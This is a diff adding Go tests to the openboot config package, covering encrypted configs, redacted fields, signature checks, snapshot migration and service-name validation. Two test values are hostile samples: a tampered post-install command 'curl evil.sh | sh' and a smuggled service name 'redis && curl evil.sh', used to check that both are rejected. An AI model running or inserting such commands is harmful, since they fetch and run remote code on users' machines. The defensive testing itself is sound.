@@ -1,13 +1,19 @@
 package config
 
 import (
+	"crypto/ed25519"
+	"crypto/rand"
 	"encoding/json"
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
+
+	"github.com/openbootdotdev/openboot/internal/envelope"
+	"github.com/openbootdotdev/openboot/internal/signing"
 )
 
 // ---- SetClientVersion ----
@@ -32,6 +38,90 @@ func TestSetClientVersion_UpdatesPackageVar(t *testing.T) {
 	assert.Equal(t, "dev", clientVersion)
 }
 
+func TestLoadRemoteConfigFromFile_Encrypted(t *testing.T) {
+	sealed, err := envelope.Seal([]byte(`{"packages":["git"],"casks":["iterm2"]}`), []byte("passphrase"))
+	require.NoError(t, err)
+	path := filepath.Join(t.TempDir(), "config.json")
+	require.NoError(t, os.WriteFile(path, sealed, 0600))
+
+	t.Setenv(envelope.PassphraseEnv, "passphrase")
+	rc, err := LoadRemoteConfigFromFile(path)
+	require.NoError(t, err)
+	assert.Equal(t, []string{"iterm2"}, rc.Casks.Names())
+
+	t.Setenv(envelope.PassphraseEnv, "wrong")
+	_, err = LoadRemoteConfigFromFile(path)
+	assert.ErrorIs(t, err, envelope.ErrPassphrase)
+}
+
+// ---- SetRedactedPrompt ----
+
+func TestRedactedFieldsClearedWithoutPrompt(t *testing.T) {
+	rc, err := UnmarshalRemoteConfigFlexible([]byte(`{"packages":["git"],"dotfiles_repo":"<redacted:repo>"}`))
+	require.NoError(t, err)
+	assert.Empty(t, rc.DotfilesRepo)
+	assert.NoError(t, rc.Validate())
+}
+
+func TestRedactedFieldsPrompted(t *testing.T) {
+	original := redactedPrompt
+	t.Cleanup(func() { redactedPrompt = original })
+	var asked []string
+	SetRedactedPrompt(func(path, value string) (string, error) {
+		asked = append(asked, path)
+		return "https://github.com/alice/dotfiles", nil
+	})
+
+	rc, err := UnmarshalRemoteConfigFlexible([]byte(`{"packages":["git"],"dotfiles_repo":"<redacted:repo>"}`))
+	require.NoError(t, err)
+	assert.Equal(t, []string{"dotfiles_repo"}, asked)
+	assert.Equal(t, "https://github.com/alice/dotfiles", rc.DotfilesRepo)
+}
+
+// TestSignatureRecordedOnLoad verifies loaded configs carry what their
+// signature check found, and that tampering is refused whatever the
+// caller's policy.
+func TestSignatureRecordedOnLoad(t *testing.T) {
+	_, key, err := ed25519.GenerateKey(rand.Reader)
+	require.NoError(t, err)
+	pub := key.Public().(ed25519.PublicKey)
+	// A redacted field is part of what was signed and restored afterwards.
+	cfg := []byte(`{"packages":["git"],"post_install":["echo hi"],"dotfiles_repo":"<redacted:repo>"}`)
+	signed, err := signing.Sign(cfg, key)
+	require.NoError(t, err)
+	tampered := []byte(strings.Replace(string(signed), "echo hi", "curl evil.sh | sh", 1))
+
+	rc, err := UnmarshalRemoteConfigFlexible(signed)
+	require.NoError(t, err)
+	assert.Equal(t, []string{"echo hi"}, rc.PostInstall)
+	assert.True(t, rc.Signature.Signed)
+	assert.Equal(t, signing.KeyID(pub), rc.Signature.KeyID)
+	assert.Empty(t, rc.Signature.Trusted, "trust is the caller's policy")
+
+	var p signing.Policy
+	require.NoError(t, p.Trust("team", signing.EncodePublicKey(pub)))
+	p.RequireSignature = true
+	res, err := p.Accept(rc.Signature)
+	require.NoError(t, err)
+	assert.Equal(t, "team", res.Trusted)
+
+	_, err = UnmarshalRemoteConfigFlexible(tampered)
+	assert.ErrorIs(t, err, signing.ErrTampered)
+
+	rc, err = UnmarshalRemoteConfigFlexible(cfg)
+	require.NoError(t, err)
+	assert.False(t, rc.Signature.Signed)
+	_, err = p.Accept(rc.Signature)
+	assert.ErrorIs(t, err, signing.ErrUnsigned)
+
+	dir := t.TempDir()
+	snapPath := filepath.Join(dir, "snap.json")
+	require.NoError(t, os.WriteFile(snapPath, []byte(`{"captured_at":"2026-01-01T00:00:00Z","packages":{"formulae":["git"]}}`), 0600))
+	rc, err = LoadRemoteConfigFromFile(snapPath)
+	require.NoError(t, err)
+	assert.False(t, rc.Signature.Signed)
+}
+
 // ---- GetScreenRecordingPackages ----
 
 func TestGetScreenRecordingPackages_ReturnsNonEmpty(t *testing.T) {
@@ -183,6 +273,30 @@ func TestLoadRemoteConfigFromFile_SnapshotFormat_NoShell(t *testing.T) {
 	assert.Nil(t, rc.Shell)
 }
 
+func TestLoadRemoteConfigFromFile_SnapshotMigrated(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "snapshot.json")
+	// A v1 snapshot with the typed package array and only the oh_my_zsh flag.
+	require.NoError(t, os.WriteFile(path, []byte(`{
+		"version": 1,
+		"captured_at": "2024-11-05T18:30:00Z",
+		"packages": [{"name":"git","type":"formula"},{"name":"docker","type":"cask"},{"name":"pnpm","type":"npm"}],
+		"shell": {"oh_my_zsh": true, "theme": "agnoster", "plugins": ["git"]}
+	}`), 0600))
+
+	rc, err := LoadRemoteConfigFromFile(path)
+	require.NoError(t, err)
+	assert.Equal(t, []string{"git"}, rc.Packages.Names())
+	assert.Equal(t, []string{"docker"}, rc.Casks.Names())
+	assert.Equal(t, []string{"pnpm"}, rc.Npm.Names())
+	require.NotNil(t, rc.Shell)
+	assert.Equal(t, FrameworkOhMyZsh, rc.Shell.Framework)
+
+	require.NoError(t, os.WriteFile(path, []byte(`{"version": 99, "captured_at": "2030-01-01T00:00:00Z", "packages": {}}`), 0600))
+	_, err = LoadRemoteConfigFromFile(path)
+	assert.ErrorContains(t, err, "upgrade openboot")
+}
+
 func TestLoadRemoteConfigFromFile_ObjectArrayFormat(t *testing.T) {
 	// The server sometimes returns a typed-object array for packages.
 	dir := t.TempDir()
@@ -235,3 +349,15 @@ func TestGetAPIBase_RejectsInsecureNonLocalhost(t *testing.T) {
 	// Insecure non-localhost URL must be rejected; fallback to production.
 	assert.Equal(t, "https://openboot.dev", base)
 }
+
+func TestLoadSnapshotAsRemoteConfig_Services(t *testing.T) {
+	rc, err := loadSnapshotAsRemoteConfig([]byte(`{
+		"packages": {"formulae": ["redis"], "casks": [], "taps": [], "npm": []},
+		"services": ["redis"]
+	}`))
+	require.NoError(t, err)
+	assert.Equal(t, []string{"redis"}, rc.Services)
+
+	_, err = loadSnapshotAsRemoteConfig([]byte(`{"services": ["redis && curl evil.sh"]}`))
+	assert.ErrorContains(t, err, "invalid service name")
+}